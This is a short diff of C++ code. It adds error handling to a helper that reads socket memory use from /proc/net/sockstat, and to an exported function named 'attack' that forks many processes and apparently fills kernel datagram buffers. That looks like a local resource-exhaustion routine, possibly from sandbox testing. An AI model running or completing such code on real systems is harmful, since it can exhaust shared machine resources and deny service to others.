@@ -43,24 +43,24 @@ static void fill_datagrams() {
                    reinterpret_cast<struct sockaddr *>(&name), sizeof name);
 }
 
-// Of the whole machine: proc(5), /proc/net/sockstat.
+// Of the whole machine: proc(5), /proc/net/sockstat; -1 where it does not say.
 static long megabytes(const char *protocol) {
     char line[256];
-    long pages = 0;
+    long pages = -1;
     FILE *file = fopen("/proc/net/sockstat", "r");
     while (file && fgets(line, sizeof line, file))
         if (const char *found = strncmp(line, protocol, 4) ? nullptr : strstr(line, "mem "))
             sscanf(found, "mem %ld", &pages);
     if (file)
         fclose(file);
-    return pages * getpagesize() >> 20;
+    return pages < 0 ? -1 : pages * getpagesize() >> 20;
 }
 
 extern "C" long attack(long n) {
     int ready[2];
     char one;
     const long tcp = megabytes("TCP:"), udp = megabytes("UDP:");
-    if (pipe(ready))
+    if (pipe(ready) || tcp < 0 || udp < 0)
         return -1;
     for (int i = 0; i < PROCESSES; i++)
         if (fork() == 0) {
